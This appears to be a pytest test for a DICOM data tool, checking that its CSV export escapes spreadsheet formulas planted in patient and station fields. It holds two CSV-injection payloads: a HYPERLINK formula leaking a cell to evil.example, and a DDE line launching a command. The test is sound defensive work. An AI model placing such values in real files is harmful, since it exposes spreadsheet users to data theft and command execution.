"""`dicomlake export --format csv` writes no live spreadsheet formula from a DICOM value
(OWASP CSV injection; issue 19): read back with the csv module, the cell is text."""

from __future__ import annotations

import csv
from pathlib import Path

import pydicom
from pydicom.data import get_testdata_file
from typer.testing import CliRunner

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"open")'


def test_export_csv_neutralises_formulas(tmp_path: Path) -> None:
    from dicomlake.cli.main import app
    from dicomlake.ingest.pipeline import ingest_paths

    ds = pydicom.dcmread(get_testdata_file("CT_small.dcm"))
    ds.PatientName = PAYLOAD
    ds.StationName = "+cmd|' /C calc'!A0"
    (tmp_path / "in").mkdir()
    ds.save_as(tmp_path / "in" / "x.dcm")
    ingest_paths([tmp_path / "in"], tmp_path / "lake", workers=1, progress=False)
    res = CliRunner().invoke(
        app, ["export", "--lake", str(tmp_path / "lake"), "--format", "csv", "--out", str(tmp_path / "out")]
    )
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader((tmp_path / "out" / "instances.csv").open(encoding="utf-8")))
    assert rows[0]["PatientName"] == "'" + PAYLOAD
    assert rows[0]["StationName"].startswith("'+")
    assert rows[0]["KVP"] == "120.0" or float(rows[0]["KVP"]) == float(ds.KVP)  # numbers stay numbers
